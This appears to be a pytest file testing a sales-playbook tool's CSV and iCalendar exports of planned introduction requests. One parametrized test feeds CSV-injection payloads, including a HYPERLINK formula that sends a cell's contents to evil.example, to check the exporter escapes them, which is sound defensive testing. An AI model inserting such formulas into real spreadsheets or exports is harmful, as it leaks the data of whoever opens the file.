"""asks.csv and asks.ics: the exact CSV header, a valid calendar read back with icalendar, stable bytes."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from icalendar import Calendar

from playbook_gen.book import Book
from playbook_gen.exports import CSV_HEADER, asks_csv, asks_ics, csv_cell
from playbook_gen.plan import plan_asks

from factories import TODAY, WEDNESDAY, book, build_playbook, connector, edge, salesperson, target

REFERENCE = {"name": "Priya Raman", "role": "accountant", "reference": True, "recent_project": {"title": "Model", "finished": "2026-10-01"}}


def sample_book(today: date = TODAY) -> Book:
    return book(
        me=salesperson(target_roles=["financial advisor", "accountant"], asks_per_week=2, cooldown_weeks=1, weeks_ahead=2),
        connectors=[
            connector("priya-raman", **REFERENCE, their=["financial advisor"]),
            connector("greta-hansen", name="Greta Hansen", their=["accountant"]),
            connector("omar-said", name="Omar Said", role="financial advisor", reference=True, recent_project={"title": "Plan", "finished": "2026-09-01"}),
        ],
        targets=[target("dana-ruiz", name="Dana Ruiz", priority=1, why="Dana is handing over the business.")],
        edges=[edge("greta-hansen", "dana-ruiz", 4)],
        today=today,
    )


def events(ics: bytes) -> list:
    calendar = Calendar.from_ical(ics)
    return [component for component in calendar.walk("VEVENT")]


def test_csv_header_is_exactly_the_spec_one() -> None:
    assert asks_csv([]).splitlines() == ["week,connector,contact,role,form"]
    assert CSV_HEADER == ("week", "connector", "contact", "role", "form")


def test_csv_has_one_row_per_ask_with_exactly_one_of_contact_and_role() -> None:
    the_book = sample_book()
    plan = plan_asks(the_book)
    rows = list(csv.DictReader(io.StringIO(asks_csv(plan))))
    assert rows == [
        {"week": "2026-11-23", "connector": "greta-hansen", "contact": "dana-ruiz", "role": "", "form": "named"},
        {"week": "2026-11-23", "connector": "priya-raman", "contact": "", "role": "financial advisor", "form": "role"},
        {"week": "2026-11-30", "connector": "greta-hansen", "contact": "", "role": "accountant", "form": "role"},
    ]
    for row in rows:
        assert bool(row["contact"]) != bool(row["role"])
        assert date.fromisoformat(row["week"]).weekday() == 0


def test_calendar_has_one_all_day_event_per_ask_on_its_monday() -> None:
    the_book = sample_book(today=WEDNESDAY)
    plan = plan_asks(the_book)
    found = events(asks_ics(the_book, plan))
    assert len(found) == len(plan) == 3
    for event, ask in zip(found, plan, strict=True):
        start, end = event.decoded("DTSTART"), event.decoded("DTEND")
        assert type(start) is date and start == ask.week and start.weekday() == 0
        assert end == start + timedelta(days=1)
        assert event.decoded("DTSTAMP") == datetime(2026, 11, 25, tzinfo=timezone.utc)


def test_each_summary_names_the_connector_and_the_one_person() -> None:
    the_book = sample_book()
    summaries = [str(e["SUMMARY"]) for e in events(asks_ics(the_book, plan_asks(the_book)))]
    assert summaries == [
        "Ask Greta Hansen to introduce Dana Ruiz",
        "Ask Priya Raman to introduce their financial advisor",
        "Ask Greta Hansen to introduce their accountant",
    ]


def test_the_description_says_why_and_which_story() -> None:
    the_book = sample_book()
    named, role, _ = events(asks_ics(the_book, plan_asks(the_book)))
    assert "Why: Dana is handing over the business." in str(named["DESCRIPTION"])
    assert "recent project for Omar Said" in str(role["DESCRIPTION"])


def test_uids_come_from_the_ask_and_are_unique() -> None:
    the_book = sample_book()
    uids = [str(e["UID"]) for e in events(asks_ics(the_book, plan_asks(the_book)))]
    assert uids == [
        "2026-11-23-greta-hansen-dana-ruiz@maya-okafor.playbook-gen",
        "2026-11-23-priya-raman-role-financial-advisor@maya-okafor.playbook-gen",
        "2026-11-30-greta-hansen-role-accountant@maya-okafor.playbook-gen",
    ]


def test_calendar_is_valid_icalendar_with_the_required_properties() -> None:
    the_book = sample_book()
    calendar = Calendar.from_ical(asks_ics(the_book, plan_asks(the_book)))
    assert calendar.name == "VCALENDAR"
    assert str(calendar["VERSION"]) == "2.0" and str(calendar["PRODID"]).startswith("-//playbook-gen//")
    for event in calendar.walk("VEVENT"):
        assert {"UID", "DTSTAMP", "DTSTART", "SUMMARY"} <= set(event.keys())
    assert asks_ics(the_book, plan_asks(the_book)).endswith(b"END:VCALENDAR\r\n")


def test_same_inputs_and_today_give_the_same_bytes() -> None:
    first, second = sample_book(), sample_book()
    assert asks_ics(first, plan_asks(first)) == asks_ics(second, plan_asks(second))
    assert asks_csv(plan_asks(first)) == asks_csv(plan_asks(second))
    later = sample_book(today=TODAY + timedelta(days=1))
    stamps = {str(e["DTSTAMP"].to_ical(), "ascii") for e in events(asks_ics(later, plan_asks(later)))}
    assert stamps == {"20261124T000000Z"}


def test_an_empty_plan_is_an_empty_calendar_that_still_parses() -> None:
    the_book = book()
    assert events(asks_ics(the_book, [])) == []


SITE_FILES = {
    "docs/salespeople/maya-okafor.md": "---\nname: Maya Okafor\noffer: plan the handover\ntarget_roles: [accountant]\n---\n",
    "docs/customers/priya-raman.md": """\
        ---
        name: Priya Raman
        role: accountant
        reference: true
        recent_project: {title: Model, finished: 2026-10-01}
        knows: [{contact: dana-ruiz, strength: 4}]
        ---
        """,
    "docs/customers/greta-hansen.md": "---\nname: Greta Hansen\ntheir: [Accountant]\n---\n",
    "docs/contacts/dana-ruiz.md": "---\nname: Dana Ruiz\npriority: 1\n---\n",
}


@pytest.fixture(scope="module")
def export_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_playbook(tmp_path_factory.mktemp("exports"), SITE_FILES)


def test_the_built_site_carries_both_files(export_site: Path) -> None:
    table = (export_site / "asks.csv").read_text(encoding="utf-8")
    assert table == "week,connector,contact,role,form\n2026-11-23,priya-raman,dana-ruiz,,named\n2026-11-23,greta-hansen,,accountant,role\n"
    found = events((export_site / "asks.ics").read_bytes())
    assert [str(e["SUMMARY"]) for e in found] == ["Ask Priya Raman to introduce Dana Ruiz", "Ask Greta Hansen to introduce their accountant"]
    assert all(e.decoded("DTSTART") == TODAY for e in found)


def test_a_rebuild_gives_byte_identical_exports(export_site: Path, tmp_path: Path) -> None:
    again = build_playbook(tmp_path, SITE_FILES)
    for name in ("asks.ics", "asks.csv"):
        assert (again / name).read_bytes() == (export_site / name).read_bytes()


@pytest.mark.parametrize("role", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "-2+3", "@SUM(1)"])
def test_a_role_that_would_run_as_a_formula_is_written_as_text(role: str) -> None:
    """Issue 10, break 2 (OWASP CSV injection): the cell starts with an apostrophe, the row keeps its shape."""
    reference = {**REFERENCE, "role": role}
    plan = plan_asks(
        book(
            me=salesperson(target_roles=[role], asks_per_week=1, cooldown_weeks=1, weeks_ahead=1),
            connectors=[connector("priya-raman", **reference), connector("greta-hansen", name="Greta Hansen", their=[role])],
            targets=[],
            edges=[],
        )
    )
    rows = list(csv.reader(io.StringIO(asks_csv(plan))))
    assert rows[0] == list(CSV_HEADER)
    assert rows[1] == [plan[0].week.isoformat(), "greta-hansen", "", "'" + role, "role"]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_owasp_names_is_neutralised(cell: str) -> None:
    # Text keys lose leading tabs and line breaks when read; the cell rule still covers them.
    assert csv_cell(cell) == "'" + cell
    assert csv_cell("Accountant") == "Accountant" and csv_cell("") == ""


def test_ordinary_roles_and_ids_are_written_as_they_are() -> None:
    rows = list(csv.reader(io.StringIO(asks_csv(plan_asks(sample_book())))))
    assert all(not cell.startswith("'") for row in rows for cell in row)
    assert any(row[3] == "accountant" for row in rows[1:])
